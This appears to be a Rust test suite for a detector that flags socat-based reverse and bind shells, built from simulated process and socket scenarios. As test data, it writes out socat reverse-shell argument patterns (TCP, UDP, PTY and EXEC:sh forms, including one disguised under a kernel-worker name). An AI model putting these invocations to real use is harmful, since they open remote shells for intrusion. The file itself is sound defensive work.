use super::scenario::*;
use detection::{Direction as Way, Settings};
use event::Direction::{Accepted, Connected};
use event::{Protocol, SocketState};
use programs::executable::{Kind, ShellFamily};
use programs::script::Verdict;

const MODULE: &str = "SOCAT_REVERSE_SHELL_DETECTED";

fn sh() -> Kind {
    Kind::Shell(ShellFamily::Dash)
}

fn socat_with(world: &mut World, path: &str, arguments: &[&str], descriptors: &[event::Descriptor]) {
    assert!(world.exec(INIT, 10, socat(), path, arguments, &[]).is_none());
    world.opens(10, descriptors);
}

#[test]
fn a_shell_behind_a_socket_pair_fires_once() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "TCP:h:1", "EXEC:/bin/sh"],
        &[tcp(5, 50, Connected), unix(6, 60, 61)],
    );
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
    assert_eq!(found.metadata.module, MODULE);
    assert_eq!(found.direction, Way::Reverse);
    assert_eq!(found.endpoint.unwrap().remote.port, 9_001);
    assert_eq!(found.opener.unwrap().process.pid, 10);
    // what is run in the same session is the same finding
    assert!(
        world.exec(11, 12, sh(), "/bin/dash", &["sh", "-i"], &[unix(0, 61, 60), unix(1, 61, 60)]).is_none()
    );
}

#[test]
fn what_each_detector_costs_is_counted() {
    let mut world = World::new();
    socat_with(&mut world, "/usr/bin/socat", &["socat"], &[tcp(5, 50, Connected), unix(6, 60, 61)]);
    world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
    let costs = world.costs();
    let events: Vec<u64> = costs.iter().map(|cost| cost.events).collect();
    assert_eq!(events, [3, 2], "the second is not asked of what the first has found");
    assert!(costs.iter().all(|cost| cost.nanos >= 5 * cost.events), "{costs:?}");
}

#[test]
fn a_relay_that_tries_again_and_again_is_one_session() {
    let mut world = World::new();
    let (ours, theirs) = (unix(6, 60, 61), [unix(0, 61, 60), unix(1, 61, 60)]);
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "EXEC:/bin/sh", "TCP:h:1,forever"],
        &[ours.clone(), connecting(5, 50)],
    );
    assert!(world.exec(10, 11, sh(), "/bin/dash", &["sh"], &theirs).is_some());
    for attempt in [51, 52, 53] {
        world.holds(10, &[ours.clone(), connecting(5, attempt)]);
        assert!(world.again(11).is_none(), "attempt {attempt}");
    }
    // the attempt that succeeds is the same session, for whatever is run in it
    world.holds(10, &[ours.clone(), tcp(5, 54, Connected)]);
    assert!(world.again(11).is_none());
    assert!(world.exec(11, 12, sh(), "/bin/dash", &["sh", "-i"], &theirs).is_none());
    // once it was connected, another connection is another session
    world.holds(10, &[ours, tcp(5, 55, Connected)]);
    assert!(world.again(11).is_some());
}

#[test]
fn a_connection_that_socat_was_given_is_told_by_the_shell_behind_it() {
    let mut world = World::new();
    let given = [tcp(0, 50, Connected), tcp(1, 50, Connected)];
    let arguments = ["socat", "STDIO", "EXEC:/bin/sh"];
    assert!(world.exec(INIT, 10, socat(), "/usr/bin/socat", &arguments, &given).is_none());
    world.opens(10, &[tcp(0, 50, Connected), tcp(1, 50, Connected), unix(6, 60, 61)]);
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
    assert_eq!((found.metadata.module, found.direction), (MODULE, Way::Reverse));
}

#[test]
fn the_name_does_not_matter() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/tmp/kworkerd",
        &["[kworkerd]", "x", "y"],
        &[tcp(5, 50, Connected), unix(6, 60, 61)],
    );
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn a_terminal_and_pipes_are_followed() {
    for (there, here) in [
        (vec![master(7, 3)], vec![slave(0, 3), slave(1, 3), slave(2, 3)]),
        (vec![writes_pipe(7, 70), reads_pipe(8, 71)], vec![reads_pipe(0, 70), writes_pipe(1, 71)]),
    ] {
        let mut world = World::new();
        socat_with(&mut world, "/usr/bin/socat", &["socat"], &[vec![tcp(5, 50, Accepted)], there].concat());
        let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-i"], &here).unwrap();
        assert_eq!((found.metadata.module, found.direction), (MODULE, Way::Bind));
    }
}

#[test]
fn nofork_leaves_no_parent_but_a_former_self() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "TCP:h:1", "EXEC:sh,nofork"],
        &[tcp(5, 50, Connected)],
    );
    let found =
        world.exec(INIT, 10, sh(), "/bin/dash", &["sh"], &[tcp(0, 50, Connected), tcp(1, 50, Connected)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn system_starts_a_shell_before_the_shell() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "TCP:h:1", "SYSTEM:sh -i"],
        &[tcp(5, 50, Connected), unix(6, 60, 61)],
    );
    let ends = [unix(0, 61, 60), unix(1, 61, 60)];
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-c", "sh -i"], &ends);
    assert_eq!(found.unwrap().metadata.module, MODULE);
    assert!(
        world.exec(11, 12, sh(), "/bin/dash", &["sh", "-i"], &ends).is_none(),
        "one session, one finding"
    );
}

#[test]
fn a_unix_socket_with_a_second_socat_behind_it_is_followed() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "UNIX-LISTEN:/s", "EXEC:sh"],
        &[unix(5, 70, 71), unix(6, 60, 61)],
    );
    world.exec(INIT, 20, socat(), "/usr/bin/socat", &["socat", "TCP:h:1", "UNIX:/s"], &[]);
    world.opens(20, &[tcp(5, 50, Connected), unix(6, 71, 70)]);
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60), unix(1, 61, 60)]).unwrap();
    assert_eq!(found.metadata.module, MODULE);
}

#[test]
fn a_shell_on_a_terminal_that_socat_opened_elsewhere() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "TCP:h:1", "PTY,link=/tmp/p"],
        &[tcp(5, 50, Connected), master(7, 4)],
    );
    let found = world.exec(INIT, 30, sh(), "/bin/dash", &["sh"], &[slave(0, 4), slave(1, 4), slave(2, 4)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn a_fifo_pipeline_whose_socat_connects_later() {
    let mut world = World::new();
    let shell = [reads_fifo(0, 80), writes_pipe(1, 81), writes_pipe(2, 81)];
    assert!(world.exec(INIT, 30, sh(), "/bin/dash", &["sh", "-i"], &shell).is_none());
    world.exec(
        INIT,
        31,
        socat(),
        "/usr/bin/socat",
        &["socat", "-", "TCP:h:1"],
        &[reads_pipe(0, 81), writes_fifo(1, 80)],
    );
    assert!(world.again(30).is_none());
    world.opens(31, &[tcp(5, 50, Connected)]);
    assert_eq!(world.again(30).unwrap().metadata.module, MODULE);
}

#[test]
fn an_interpreter_that_reads_its_program_from_the_peer() {
    let mut world = World::new();
    socat_with(&mut world, "/usr/bin/socat", &["socat"], &[tcp(5, 50, Connected), unix(6, 60, 61)]);
    let python = Kind::Interpreter(programs::executable::InterpreterFamily::Python);
    let found = world.exec(10, 11, python, "/usr/bin/python3.11", &["python3", "-i"], &[unix(0, 61, 60)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn datagrams_without_a_peer_count_for_socat() {
    let mut world = World::new();
    let receives = socket(5, 50, event::Direction::Unknown, Protocol::Udp, SocketState::Unconnected);
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "UDP-RECVFROM:1", "EXEC:sh"],
        &[receives, unix(6, 60, 61)],
    );
    assert!(world.exec(10, 11, sh(), "/bin/dash", &["sh"], &[unix(0, 61, 60)]).is_some());
}

#[test]
fn quiet_without_a_network_or_without_commands() {
    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "-", "EXEC:bash,pty"],
        &[master(7, 4), unix(6, 60, 61)],
    );
    assert!(world.exec(10, 11, sh(), "/bin/dash", &["sh", "-i"], &[slave(0, 4)]).is_none());

    let mut world = World::new();
    socat_with(
        &mut world,
        "/usr/bin/socat",
        &["socat", "TCP-LISTEN:1,fork", "SYSTEM:date; cat"],
        &[tcp(5, 50, Accepted), unix(6, 60, 61)],
    );
    for arguments in
        [&["sh", "-c", "date; cat"][..], &["sh", "/srv/answer.sh"], &["sh", "-e", "./answer.sh", "x"]]
    {
        assert!(
            world.exec(10, 11, sh(), "/bin/dash", arguments, &[unix(0, 61, 60)]).is_none(),
            "{arguments:?}"
        );
    }
    assert!(world.exec(10, 12, Kind::Unknown, "/bin/cat", &["cat"], &[unix(0, 61, 60)]).is_none());
}

#[test]
fn parity_is_the_literal_rule() {
    let settings = Settings { parity: true, ..Settings::default() };
    let mut world = World::with(settings);
    socat_with(&mut world, "/usr/bin/socat", &["socat", "-", "EXEC:sh"], &[unix(6, 60, 61)]);
    let found = world.exec(10, 11, sh(), "/bin/dash", &["sh", "-c", "date"], &[unix(0, 61, 60)]);
    assert_eq!(found.unwrap().metadata.module, MODULE);
}

#[test]
fn a_terminal_that_one_socat_keeps_and_another_connects() {
    let mut world = World::new();
    world.exec(INIT, 10, socat(), "/usr/bin/socat", &["socat", "PTY,link=/tmp/p", "EXEC:sh"], &[]);
    world.opens(10, &[master(5, 3), unix(6, 60, 61)]);
    world.exec(10, 12, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:9001", "/tmp/p"], &[]);
    world.opens(12, &[slave(5, 3), tcp(6, 50, Connected)]);
    let shell = [unix(0, 61, 60), unix(1, 61, 60)];
    let found = world.exec(10, 11, sh(), "/bin/sh", &["sh"], &shell).unwrap();
    assert_eq!(found.metadata.module, "SOCAT_REVERSE_SHELL_DETECTED");
}

#[test]
fn a_terminal_that_was_numbered_anew_belongs_to_who_has_it_now() {
    for (older, newer) in [(10, 20), (20, 10)] {
        let mut world = World::new();
        world.exec(INIT, older, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:1", "EXEC:sh,pty"], &[]);
        world.opens(older, &[tcp(5, 50, Connected), master(6, 0)]);
        assert!(world.exec(older, 11, sh(), "/bin/sh", &["sh"], &[slave(0, 0), slave(1, 0)]).is_some());
        // the end of the first session is not known yet
        world.exec(INIT, newer, socat(), "/usr/bin/socat", &["socat", "TCP:10.0.0.9:2", "EXEC:sh,pty"], &[]);
        world.opens(newer, &[tcp(5, 60, Connected), master(6, 0)]);
        let second = world.exec(newer, 12, sh(), "/bin/sh", &["sh"], &[slave(0, 0), slave(1, 0)]).unwrap();
        assert_eq!(second.endpoint.unwrap().inode, 60);
    }
}

#[test]
fn datagrams_without_a_connection_have_the_peer_that_socat_names() {
    let unconnected = socket(5, 50, event::Direction::Unknown, Protocol::Udp, SocketState::Unconnected);
    let mut unconnected = unconnected;
    if let event::Object::Internet(socket) = &mut unconnected.object {
        socket.remote.port = 0;
    }
    let mut world = World::new();
    let arguments = ["socat", "udp-datagram:10.0.0.9:9001", "EXEC:sh"];
    world.exec(INIT, 10, socat(), "/usr/bin/socat", &arguments, &[]);
    world.opens(10, &[unconnected, unix(6, 60, 61)]);
    let shell = [unix(0, 61, 60), unix(1, 61, 60)];
    let found = world.exec(10, 11, sh(), "/bin/sh", &["sh"], &shell).unwrap();
    let peer = found.endpoint.unwrap().remote;
    assert_eq!((peer.address.to_string().as_str(), peer.port), ("10.0.0.9", 9_001));
}

#[test]
fn quiet_for_a_shell_that_a_fixed_script_feeds() {
    for (verdict, found) in [(Verdict::QUIET, false), (Verdict::reads(0), true)] {
        let mut world = World::new();
        socat_with(&mut world, "/usr/bin/socat", &["socat", "TCP-L:9001,fork", "EXEC:/srv/report.sh"], &[]);
        world.opens(10, &[tcp(5, 50, Accepted), unix(6, 60, 61)]);
        let served = [unix(0, 61, 60), unix(1, 61, 60)];
        world.exec(10, 11, sh(), "/bin/dash", &["/bin/sh", "/srv/report.sh"], &served);
        world.tell_script(11, verdict);
        // (echo uptime) | sh
        world.forks(11, 12, &[unix(0, 61, 60), writes_pipe(1, 70)]);
        let fed = world.exec(11, 13, sh(), "/bin/dash", &["sh"], &[reads_pipe(0, 70), unix(1, 61, 60)]);
        assert_eq!(fed.is_some(), found);
    }
}
